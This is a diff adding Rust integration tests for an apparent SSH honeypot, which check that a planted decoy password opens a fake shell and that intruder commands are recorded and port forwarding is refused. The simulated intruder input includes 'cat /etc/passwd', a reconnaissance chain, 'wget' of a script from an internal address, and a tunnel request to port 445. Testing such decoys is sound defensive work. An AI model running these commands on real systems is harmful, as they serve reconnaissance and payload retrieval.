@@ -271,3 +271,105 @@ fn the_sixth_failure_ends_the_connection_with_too_many_authentication_failures()
     assert!(eventually(10, || count_kind(&db, "connection_closed") == 1));
     assert_eq!(auths(&db, "password").len(), 6, "MaxAuthTries 6, every attempt stored");
 }
+
+#[test]
+fn with_accept_tokens_a_planted_password_gets_the_fake_shell_and_every_line_is_recorded() {
+    let dir = tempfile::tempdir().unwrap();
+    let decoy = ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0") + "    accept: tokens\n";
+    let hw = Honeyward::start(dir.path(), &config(&decoy));
+    let addr = hw.addr("ssh");
+    hw_cli(dir.path(), &["token", "create", "ssh-password", "--label", "pacs admin", "--username", "radadmin", "--password", "Kelvo-Mistan-Baiper47!", "--plant", "h/.bash_history"]);
+    std::thread::sleep(std::time::Duration::from_millis(1200));
+
+    // A wrong password is still refused.
+    assert_eq!(ssh(addr, "radadmin", &[], Some("guess")).status.code(), Some(5));
+
+    // exec: `ssh host 'cmd; cmd'`
+    let out = ssh_cmd(addr, "radadmin", "Kelvo-Mistan-Baiper47!", &[], "uname -a; id; ls -la /etc; cat /etc/passwd");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(text.starts_with("Linux pacs-archive01 6.1.0-28-amd64"), "{text}");
+    assert!(text.contains("uid=1001(radadmin)") && text.contains(" passwd\n") && text.contains("root:x:0:0:root:/root:/bin/bash"), "{text}");
+
+    // An interactive shell, typed into.
+    let mut child = Command::new("sshpass")
+        .args(["-p", "Kelvo-Mistan-Baiper47!", "ssh", "-tt", "-p", &addr.port().to_string()])
+        .args(CLIENT_OPTS)
+        .arg("radadmin@127.0.0.1")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child.stdin.as_mut().unwrap().write_all(b"whoami\nwget http://10.0.0.9/x.sh\nexit\n").unwrap();
+    let out = child.wait_with_output().unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert!(shown.contains("radadmin@pacs-archive01:~$ ") && shown.contains("-bash: wget: command not found"), "{shown}");
+
+    let db = hw.store();
+    assert!(eventually(10, || count_kind(&db, "ssh_session_closed") == 2));
+    let lines: Vec<String> = bodies(&db, "ssh_command").iter().map(|c| c["details"]["line"]["text"].as_str().unwrap().to_string()).collect();
+    assert_eq!(lines, ["uname -a; id; ls -la /etc; cat /etc/passwd", "whoami", "wget http://10.0.0.9/x.sh", "exit"]);
+    let accepted: Vec<_> = auths(&db, "password").into_iter().filter(|a| a["details"]["accepted"] == true).collect();
+    assert_eq!(accepted.len(), 2);
+    assert_eq!(accepted[0]["token"]["label"], "pacs admin");
+
+    // The recordings parse as asciicast v2 and match their recorded hash.
+    for closed in bodies(&db, "ssh_session_closed") {
+        let path = closed["details"]["recording"].as_str().unwrap();
+        let raw = std::fs::read(path).unwrap();
+        let text = String::from_utf8(raw.clone()).unwrap();
+        let mut rows = text.lines();
+        let header: serde_json::Value = serde_json::from_str(rows.next().unwrap()).unwrap();
+        assert_eq!(header["version"], 2);
+        for row in rows {
+            let ev: serde_json::Value = serde_json::from_str(row).unwrap();
+            assert!(ev[0].is_f64() && (ev[1] == "o" || ev[1] == "i") && ev[2].is_string(), "{row}");
+        }
+        use sha2_check::hex_sha256;
+        assert_eq!(closed["details"]["sha256"], hex_sha256(&raw));
+    }
+}
+
+fn ssh_cmd(addr: SocketAddr, user: &str, password: &str, extra: &[&str], command: &str) -> Output {
+    Command::new("sshpass")
+        .args(["-p", password, "ssh", "-p", &addr.port().to_string()])
+        .args(CLIENT_OPTS)
+        .args(extra)
+        .arg(format!("{user}@{}", addr.ip()))
+        .arg(command)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap()
+}
+
+mod sha2_check {
+    /// SHA-256 via the system's sha256sum (a reference independent of our code).
+    pub fn hex_sha256(data: &[u8]) -> String {
+        use std::io::Write;
+        let mut child = std::process::Command::new("sha256sum").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
+        child.stdin.as_mut().unwrap().write_all(data).unwrap();
+        let out = child.wait_with_output().unwrap();
+        String::from_utf8_lossy(&out.stdout).split_whitespace().next().unwrap().to_string()
+    }
+}
+
+#[test]
+fn port_forwarding_and_sftp_are_refused_and_recorded() {
+    let dir = tempfile::tempdir().unwrap();
+    let decoy = ssh_decoy("ssh").replace("failure_delay_ms: 50", "failure_delay_ms: 0") + "    accept:\n      - username: backup\n        password: backup123\n";
+    let hw = Honeyward::start(dir.path(), &config(&decoy));
+    let addr = hw.addr("ssh");
+    // -W asks for a direct-tcpip channel to a host behind the decoy.
+    let out = ssh_cmd(addr, "backup", "backup123", &["-W", "10.20.0.5:445"], "");
+    assert!(!out.status.success());
+    let out = ssh_cmd(addr, "backup", "backup123", &["-s"], "sftp");
+    assert!(!out.status.success() || out.stdout.is_empty());
+    let db = hw.store();
+    assert!(eventually(10, || count_kind(&db, "ssh_request_refused") == 2));
+    let refused = bodies(&db, "ssh_request_refused");
+    assert_eq!(refused[0]["details"]["request"], "direct-tcpip");
+    assert_eq!(refused[0]["details"]["target"]["text"], "10.20.0.5:445");
+    assert_eq!(refused[1]["details"]["target"]["text"], "sftp");
+}
